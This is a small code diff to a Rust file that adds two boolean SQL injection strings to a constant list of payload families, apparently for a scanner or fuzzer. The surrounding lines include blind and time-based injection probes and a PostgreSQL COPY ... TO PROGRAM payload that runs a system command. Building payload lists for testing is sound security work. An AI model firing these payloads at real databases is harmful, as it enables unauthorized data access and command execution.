@@ -37,6 +37,8 @@ pub const FAMILIES: &[Family] = &[
             "x' AND(LENGTH(DATABASE())>1)-- ",
             "1 AND BENCHMARK(5000000/**/*2,SHA1(0x41))",
             "1';COPY (SELECT '') TO PROGRAM 'id'--",
+            "1 OR TRUE",
+            "2) AND NOT FALSE-- -",
         ],
     },
     Family {
